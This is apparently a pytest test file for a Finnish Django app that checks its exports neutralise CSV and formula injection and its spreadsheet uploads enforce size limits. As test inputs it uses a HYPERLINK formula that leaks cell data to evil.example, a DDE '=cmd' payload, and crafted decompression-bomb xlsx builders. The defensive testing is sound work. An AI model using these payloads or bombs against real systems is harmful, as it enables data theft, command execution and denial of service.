"""tyopolku.files.spreadsheets: no written cell is ever a formula (OWASP CSV injection), every
export goes through it, and the uploaded-spreadsheet reader stays within its limits."""

import csv
import io
import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.test import override_settings
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from tests.factories import ContactPersonFactory, EmployerFactory
from tests.pages_support import login
from tests.test_employer_import import FI_HEADER, api_upload, business_id, english, fi_row, upload
from tests.test_employer_import import xlsx as make_xlsx
from tyopolku.employers.models import EmployerImport
from tyopolku.files import spreadsheets

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
dangerous_text = st.builds(
    lambda start, rest: start + rest, st.sampled_from(DANGEROUS), st.text(max_size=40)
)


def xlsx_cells(rows: list[list]) -> list[list]:
    """Write `rows` with the safe writer, read them back with openpyxl: the cells."""
    writer = spreadsheets.XlsxWriter()
    writer.add_sheet("T")
    for row in rows:
        writer.append(row)
    with writer.temporary_file() as file:
        workbook = load_workbook(io.BytesIO(file.read()))
    return [list(row) for row in workbook["T"].iter_rows()]


def csv_fields(row: list) -> list[str]:
    out = io.StringIO()
    spreadsheets.CsvWriter(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))


# Writing ----------------------------------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(dangerous_text)
def test_it_writes_any_formula_like_text_to_xlsx_as_text(text):
    (cell,) = xlsx_cells([[text]])[0]

    assert cell.data_type == "s"  # never "f"
    assert cell.value == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)
    assert cell.quotePrefix


@settings(max_examples=60, deadline=None)
@given(dangerous_text)
def test_it_prefixes_any_formula_like_text_in_csv(text):
    (field,) = csv_fields([text])

    assert field == "'" + re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40).filter(lambda t: not t.startswith(DANGEROUS)))
def test_it_writes_other_text_as_it_is(text):
    clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)
    assert csv_fields([text]) == [clean]
    cell, _end = xlsx_cells([[text, "end"]])[0]
    assert (cell.value, cell.data_type) == ((clean, "s") if clean else (None, "n"))


def test_it_keeps_a_number_written_from_a_text_field_text_and_numbers_numbers():
    negative, formula, number, empty, _end = xlsx_cells([["-5", "=1+1", -5, None, "end"]])[0]

    assert (negative.value, negative.data_type) == ("-5", "s")
    assert (formula.value, formula.data_type) == ("=1+1", "s")
    assert (number.value, number.data_type) == (-5, "n")
    assert empty.value is None
    assert csv_fields(["-5", -5, "+358 40 123 4567", "@x"]) == [
        "'-5",
        "-5",
        "'+358 40 123 4567",
        "'@x",
    ]


FORBIDDEN_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|load_workbook\(|xlsxwriter|WriteOnlyCell"
)
PACKAGE = Path(__file__).resolve().parent.parent / "tyopolku"


def test_it_writes_and_reads_spreadsheets_only_in_tyopolku_files():
    """A new export (or import) that makes its own CSV writer or workbook fails here: it
    must use tyopolku.files.spreadsheets, whose writers cannot write a formula."""
    offenders = [
        f"{path.relative_to(PACKAGE)}: {line.strip()}"
        for path in PACKAGE.rglob("*.py")
        if "files" not in path.relative_to(PACKAGE).parts[:1]
        for line in path.read_text(encoding="utf-8").splitlines()
        if FORBIDDEN_WRITERS.search(line)
    ]
    assert offenders == []
    # The pattern does find writers: the helper itself has them.
    helper = (PACKAGE / "files" / "spreadsheets.py").read_text(encoding="utf-8")
    assert FORBIDDEN_WRITERS.search(helper)


def test_it_exports_a_formula_like_employer_and_contact_person_as_text(client, supervisor, org):
    name = '=HYPERLINK("http://evil.example/?x="&A2,"Avaa")'
    employer = EmployerFactory(organization=org, name=name, notes="-5")
    ContactPersonFactory(employer=employer, name="=cmd|' /C calc'!A0", phone="+358401234567")
    login(client, supervisor)

    answer = client.get(reverse("employer_export"))

    workbook = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {name, "=cmd|' /C calc'!A0", "-5", "+358401234567"} <= values


def test_it_exports_the_access_log_with_formula_like_names_as_text(
    client, supervisor, coach, client_record
):
    coach.first_name, coach.last_name = "=cmd|' /C calc'!A0", "@SUM(1)"
    coach.save(update_fields=["first_name", "last_name"])
    login(client, coach)
    client.get(reverse("client_detail", args=[client_record.pk]))
    login(client, supervisor)

    answer = client.get(reverse("client_access_log_csv", args=[client_record.pk]))

    text = answer.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    coach_rows = [r for r in rows if r[2] == "coach"]
    assert coach_rows and coach_rows[0][1] == "'=cmd|' /C calc'!A0 @SUM(1)"
    assert not [f for r in rows for f in r if f.startswith(DANGEROUS)]


# Reading: the limits ----------------------------------------------------------------------------


def sheet_xml(rows_xml: str, dimension: str = "A1") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{rows_xml}</sheetData></worksheet>'
    )


def text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_and_rows_xml(rows: list[list[str]], first: int = 1) -> str:
    return "".join(
        f'<row r="{n}">'
        + "".join(text_cell(f"{get_column_letter(i)}{n}", v) for i, v in enumerate(row, 1) if v)
        + "</row>"
        for n, row in enumerate(rows, start=first)
    )


def crafted_xlsx(xml: str) -> bytes:
    """A real workbook whose one sheet is `xml`, written as a stranger would: deflated, so
    that megabytes of one letter take a few kilobytes."""
    base = zipfile.ZipFile(io.BytesIO(make_xlsx(("T", [["x"]]))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as crafted:
        for item in base.infolist():
            data = xml.encode() if item.filename == "xl/worksheets/sheet1.xml" else base.read(item)
            crafted.writestr(item.filename, data)
    return out.getvalue()


def refusal(answer) -> tuple[int, str]:
    """(status, the file field's message) of a page or API answer."""
    if answer["Content-Type"].startswith("application/json"):
        body = answer.json()
        assert [e["field"] for e in body["errors"]] == ["file"]
        return answer.status_code, body["errors"][0]["message"]
    page = answer.content.decode()
    error = page.split('id="id_file_error"')[1].split("</div>")[0]
    return answer.status_code, error.split('<p class="error">')[1].split("</p>")[0]


def bomb_cell() -> bytes:
    """25 KB or so that unpack to a 21 MB cell."""
    return crafted_xlsx(
        sheet_xml(header_and_rows_xml([["Yritys", "Y-tunnus"], ["x" * 21_000_000, "1"]]))
    )


@pytest.fixture
def page(client, supervisor):
    login(client, supervisor)
    return lambda content, name="t.xlsx", **extra: upload(client, content, name, **extra)


@pytest.fixture
def api(supervisor, api_as):
    the_api = english(api_as(supervisor))
    return lambda content, name="t.xlsx": api_upload(the_api, content, name)


@pytest.mark.parametrize("channel", ["page", "api"])
def test_it_refuses_a_small_xlsx_that_unpacks_to_a_huge_cell_with_413(request, channel):
    content = bomb_cell()
    assert len(content) < 100_000

    started = time.monotonic()
    answer = request.getfixturevalue(channel)(content)

    assert time.monotonic() - started < 5
    status, message = refusal(answer)
    assert status == 413
    assert "more than 20.0\xa0MB of data when unpacked" in message
    assert len(answer.content) < 20_000  # nothing of the cell is echoed
    assert not EmployerImport.objects.exists()


def test_it_swaps_an_htmx_413_answer_in_place(page):
    answer = page(bomb_cell(), HTTP_HX_REQUEST="true")

    assert answer.status_code == 413
    assert answer.content.decode().lstrip().startswith("<form")


@override_settings(SPREADSHEET_MAX_CELL_CHARS=1000)
@pytest.mark.parametrize("channel", ["page", "api"])
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_it_refuses_a_cell_over_the_length_limit_with_422(request, channel, kind):
    rows = [["Yritys", "Y-tunnus"], ["Oy", business_id()], ["y" * 1001, business_id()]]
    content = (
        crafted_xlsx(sheet_xml(header_and_rows_xml(rows)))
        if kind == "xlsx"
        else "\r\n".join(";".join(r) for r in rows).encode()
    )

    status, message = refusal(request.getfixturevalue(channel)(content, f"t.{kind}"))

    assert status == 422
    assert message == "Row 3 has a cell longer than 1000 characters."


def test_it_refuses_a_csv_cell_longer_than_the_csv_modules_own_limit(api):
    content = b"Yritys;Y-tunnus\r\n" + b"z" * 200_000 + b";1\r\n"

    status, message = refusal(api(content, "t.csv"))

    assert status == 422
    assert "a cell longer than 10000 characters" in message


@override_settings(SPREADSHEET_MAX_ROWS=50)
@pytest.mark.parametrize("channel", ["page", "api"])
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_it_refuses_too_many_rows_with_422(request, channel, kind):
    rows = [["Yritys", "Y-tunnus"]] + [[f"Oy {n}", business_id()] for n in range(50)]
    content = (
        crafted_xlsx(sheet_xml(header_and_rows_xml(rows)))
        if kind == "xlsx"
        else "\r\n".join(";".join(r) for r in rows).encode()
    )

    status, message = refusal(request.getfixturevalue(channel)(content, f"t.{kind}"))

    assert status == 422
    assert message == "The file has more than 50 rows: split it into smaller files."


@pytest.mark.parametrize("channel", ["page", "api"])
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_it_refuses_too_many_columns_with_422(request, channel, kind):
    rows = [["Yritys", "Y-tunnus"] + [""] * 58 + ["Muuta"], ["Oy", business_id()]]
    content = (
        crafted_xlsx(sheet_xml(header_and_rows_xml(rows)))
        if kind == "xlsx"
        else "\r\n".join(";".join(r) for r in rows).encode()
    )

    status, message = refusal(request.getfixturevalue(channel)(content, f"t.{kind}"))

    assert status == 422
    assert message == "The file has more than 60 columns: remove the extra columns."


def test_it_reads_a_sheet_whose_dimensions_claim_every_row_and_column_quickly(api):
    rows = [FI_HEADER, fi_row("Oy", business_id())]
    xml = sheet_xml(
        header_and_rows_xml(rows) + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>',
        dimension="A1:XFD1048576",
    )

    started = time.monotonic()
    answer = api(crafted_xlsx(xml))

    assert time.monotonic() - started < 5
    assert answer.status_code == 201, answer.json()
    assert answer.json()["row_count"] == 1  # the sheet ended 1000 empty rows after its data


def test_it_echoes_only_a_cleaned_and_shortened_form_of_a_cell(api):
    long_name = "Pitkä\nnimi " + "n" * 900
    rows = [["Yritys", "Y-tunnus", "Tyyppi", "Muuta " + "m" * 500], [long_name, "1", "t" * 600]]

    answer = api(crafted_xlsx(sheet_xml(header_and_rows_xml(rows))))

    body = answer.json()
    assert answer.status_code == 201, body
    values = body["rows"][0]["values"]
    assert values["name"] == ("Pitkä nimi " + "n" * 900)[:200] + "…"
    assert len(values["employer_type"]) == 201
    assert len(body["ignored_columns"][0]) == 201
    problems = " ".join(p["message"] for p in body["rows"][0]["problems"])
    assert "t" * 201 not in problems
    assert len(answer.content) < 5000


def test_it_refuses_an_xlsx_that_declares_more_than_the_unpacked_limit_before_opening_it(api):
    with override_settings(SPREADSHEET_MAX_UNCOMPRESSED_BYTES=10_000):
        status, message = refusal(api(make_xlsx(("T", [["x" * 20_000]]))))

    assert status == 413
    assert message == (
        "The file holds more than 9.8\xa0KB of data when unpacked: split it into smaller files."
    )


def test_it_stops_a_small_file_whose_shared_text_repeats_before_it_fills_memory(api):
    """One long text stored once and used in every cell: a small file, a few megabytes
    unpacked, but hundreds of millions of characters when read. The reader counts what
    it reads and stops."""
    shared = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        f'uniqueCount="1"><si><t>{"s" * 9000}</t></si></sst>'
    )
    rows = "".join(
        f'<row r="{n}">'
        + "".join(f'<c r="{get_column_letter(c)}{n}" t="s"><v>0</v></c>' for c in range(1, 13))
        + "</row>"
        for n in range(2, 2002)
    )
    base = zipfile.ZipFile(io.BytesIO(make_xlsx(("T", [["x"]]))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as crafted:
        for item in base.infolist():
            data = base.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml(header_and_rows_xml([["Yritys", "Y-tunnus"]]) + rows).encode()
            elif item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            crafted.writestr(item.filename, data)
        crafted.writestr("xl/sharedStrings.xml", shared)
    content = out.getvalue()
    assert len(content) < 200_000

    api(b"")  # the first request of a process sets things up: not measured
    tracemalloc.start()
    try:
        answer = api(content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    status, message = refusal(answer)
    assert status == 413
    assert "of data when unpacked" in message
    assert peak < 150 * 1024 * 1024
